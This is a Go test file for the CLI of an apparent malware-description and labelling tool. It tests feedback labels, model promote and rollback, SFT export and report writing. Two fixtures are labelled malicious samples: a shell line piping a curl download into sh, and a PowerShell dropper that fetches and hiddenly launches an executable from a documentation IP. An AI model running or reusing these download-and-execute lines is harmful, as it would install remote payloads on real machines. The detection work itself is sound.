package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/automaldesc/automaldesc/learning/loop"
	"github.com/automaldesc/automaldesc/store"
	"github.com/automaldesc/automaldesc/store/sqlite"
)

// runIn runs one command line in process.
func runIn(t *testing.T, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(context.Background(), args, strings.NewReader(""), &out, &errb)
	return out.String(), errb.String(), code
}

func TestFeedbackChangesDispositionAtOnce(t *testing.T) {
	db := filepath.Join(t.TempDir(), "a.db")
	sha := strings.Repeat("ab", 32)
	s, err := sqlite.Open(t.Context(), db, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.PutRecord(t.Context(), store.Record{ID: "rec-1", SHA256: sha, Label: "benign", Status: "ok"}); err != nil {
		t.Fatal(err)
	}
	s.Close()

	tests := []struct {
		name     string
		args     []string
		wantCode int
		wantOut  string
		wantErr  string
		wantDisp string
	}{
		{"malicious", []string{"--label", "malicious", "--category", "downloader", "--note", "seen in campaign"}, 0, "disposition malicious", "", "malicious"},
		{"benign overrides", []string{"--label", "benign"}, 0, "disposition benign", "", "benign"},
		{"bad label", []string{"--label", "evil"}, exitFailure, "", "--label must be", "benign"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, errOut, code := runIn(t, append([]string{"feedback", sha, "--db", db}, tc.args...)...)
			if code != tc.wantCode || !strings.Contains(out, tc.wantOut) || !strings.Contains(errOut, tc.wantErr) {
				t.Fatalf("got code %d, stdout %q, stderr %q; want %d, %q, %q", code, out, errOut, tc.wantCode, tc.wantOut, tc.wantErr)
			}
			s, err := sqlite.Open(t.Context(), db, nil)
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			if d, err := loop.Disposition(t.Context(), s, sha); err != nil || d != tc.wantDisp {
				t.Errorf("disposition: got (%q, %v), want %q", d, err, tc.wantDisp)
			}
			labels, err := loop.FeedbackLabels(t.Context(), s)
			if err != nil || string(labels[sha]) != tc.wantDisp {
				t.Errorf("training label: got %q (%v), want %q", labels[sha], err, tc.wantDisp)
			}
		})
	}
	t.Run("unknown sample", func(t *testing.T) {
		_, errOut, code := runIn(t, "feedback", strings.Repeat("cd", 32), "--label", "benign", "--db", db)
		if code != exitFailure || !strings.Contains(errOut, "no record of sample") {
			t.Errorf("got code %d, stderr %q; want %d and 'no record of sample'", code, errOut, exitFailure)
		}
	})
}

func TestModelPromoteRollback(t *testing.T) {
	db := filepath.Join(t.TempDir(), "m.db")
	s, err := sqlite.Open(t.Context(), db, nil)
	if err != nil {
		t.Fatal(err)
	}
	m, err := builtinModel()
	if err != nil {
		t.Fatal(err)
	}
	var blob bytes.Buffer
	if err := m.Save(&blob); err != nil {
		t.Fatal(err)
	}
	for i, v := range []string{"v1", "v2"} {
		parent := map[bool]string{true: "", false: "v1"}[i == 0]
		if _, err := s.PutModel(t.Context(), store.ModelEntry{Version: v, Parent: parent, Blob: blob.Bytes(),
			Metrics: json.RawMessage(`{"all":{"accuracy":0.9}}`)}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.PutModel(t.Context(), store.ModelEntry{Version: "broken", Blob: []byte("not a model")}); err != nil {
		t.Fatal(err)
	}
	s.Close()
	steps := []struct {
		args     []string
		wantCode int
		want     string
	}{
		{[]string{"promote", "v1", "--by", "alice"}, 0, "promoted v1"},
		{[]string{"promote", "v2"}, 0, "promoted v2"},
		{[]string{"promote", "broken"}, exitFailure, ""},
		{[]string{"list"}, 0, "v2       promoted"},
		{[]string{"rollback", "--by", "bob"}, 0, "in force: v1"},
		{[]string{"show"}, 0, `"version": "v1"`},
		{[]string{"rollback"}, exitFailure, ""},
		{[]string{"history"}, 0, "rollback"},
	}
	for _, st := range steps {
		out, errOut, code := runIn(t, append([]string{"model", "--db", db}, st.args...)...)
		if code != st.wantCode || !strings.Contains(out, st.want) {
			t.Fatalf("model %v: got code %d, stdout %q, stderr %q; want %d and %q", st.args, code, out, errOut, st.wantCode, st.want)
		}
	}
}

func TestExportSFT(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "s.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ncurl -s http://198.51.100.4/x | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	kept := filepath.Join(dir, "kept.jsonl")
	var b bytes.Buffer
	if err := loop.WriteKept(&b, []loop.Kept{
		{Round: 1, Where: script, Language: "bash", Label: "malicious", Summary: "Pipes a download into sh (T1105)."},
		{Round: 1, Where: filepath.Join(dir, "gone"), Language: "bash", Label: "benign", Summary: "x"},
	}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(kept, b.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "sft.jsonl")
	stdout, errOut, code := runIn(t, "export", "sft", "--kept", kept, "--include-seeds", "--out", out)
	if code != 0 || !strings.Contains(stdout, "(1 skipped)") {
		t.Fatalf("got code %d, stdout %q, stderr %q", code, stdout, errOut)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(lines) < 200 {
		t.Errorf("got %d records, want the seeds plus one", len(lines))
	}
	for i, l := range lines {
		var rec loop.SFTRecord
		if err := json.Unmarshal([]byte(l), &rec); err != nil || len(rec.Messages) != 3 {
			t.Fatalf("line %d: %v, %d messages", i+1, err, len(rec.Messages))
		}
		var ans loop.SFTAnswer
		if err := json.Unmarshal([]byte(rec.Messages[2].Content), &ans); err != nil || ans.Summary == "" || ans.Language == "" {
			t.Fatalf("line %d: assistant answer %q: %v", i+1, rec.Messages[2].Content, err)
		}
	}
	if !strings.Contains(lines[len(lines)-1], `\"label\":1`) || !strings.Contains(lines[len(lines)-1], "198.51.100.4") {
		t.Errorf("last record is not the kept script: %s", lines[len(lines)-1])
	}
}

func TestLearnWritesReports(t *testing.T) {
	dir := t.TempDir()
	pool := filepath.Join(dir, "pool")
	if err := os.MkdirAll(pool, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, body := range map[string]string{
		"rotate.sh": "#!/bin/sh\n# rotate application logs older than a week\nfind /var/log/app -name '*.log' -mtime +7 -exec gzip {} \\;\n",
		"drop.ps1":  "$w = New-Object Net.WebClient\n$w.DownloadFile('http://203.0.113.50/u.exe', \"$env:TEMP\\u.exe\")\nStart-Process \"$env:TEMP\\u.exe\" -WindowStyle Hidden\n",
	} {
		if err := os.WriteFile(filepath.Join(pool, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(dir, "out")
	stdout, errOut, code := runIn(t, "learn", "--pool", pool, "--validation", "seeds", "--no-store", "--rounds", "1",
		"--out", out, "--created-at", "2025-06-01T00:00:00Z", "--log-level", "warn")
	if code != 0 || !strings.Contains(stdout, "## Round 1") {
		t.Fatalf("got code %d, stdout %q, stderr %q", code, stdout, errOut)
	}
	for _, f := range []string{"report.md", "report.json", "kept.jsonl", "final.model"} {
		if fi, err := os.Stat(filepath.Join(out, f)); err != nil || (f != "kept.jsonl" && fi.Size() == 0) {
			t.Errorf("%s: %v", f, err)
		}
	}
	var res struct {
		Rounds []struct {
			Languages []struct {
				Language string `json:"language"`
				Pool     int    `json:"pool"`
			} `json:"languages"`
		} `json:"rounds"`
	}
	data, _ := os.ReadFile(filepath.Join(out, "report.json"))
	if err := json.Unmarshal(data, &res); err != nil || len(res.Rounds) != 1 {
		t.Fatalf("report.json: %v, %d rounds", err, len(res.Rounds))
	}
	all := res.Rounds[0].Languages[len(res.Rounds[0].Languages)-1]
	if all.Language != "all" || all.Pool != 2 {
		t.Errorf("pooled row: got %+v, want all with 2 pool samples", all)
	}
	if _, errOut, code := runIn(t, "learn", "--validation", "seeds"); code != exitFailure || !strings.Contains(errOut, "needs --pool") {
		t.Errorf("missing --pool: got code %d, stderr %q", code, errOut)
	}
}
